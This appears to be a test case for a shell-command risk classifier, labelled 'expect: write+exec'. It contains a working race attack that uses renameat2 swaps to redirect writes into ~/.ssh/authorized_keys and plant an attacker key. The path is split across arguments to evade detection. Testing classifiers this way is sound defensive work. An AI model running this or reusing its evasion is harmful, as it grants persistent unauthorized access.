# expect: write+exec
# why: echo > f while f is swapped for a link to authorized_keys
: > f
python3 -c 'import ctypes, os, sys, time
os.symlink(os.path.expanduser("~/.ss") + sys.argv[1], sys.argv[2] + ".ln")
end = time.time() + 2
while time.time() < end:
    ctypes.CDLL(None).renameat2(-100, sys.argv[2].encode(), -100, (sys.argv[2] + ".ln").encode(), 2)' h/authorized_keys f &
for i in $(seq 300); do echo 'ssh-ed25519 EVIL' > f; done
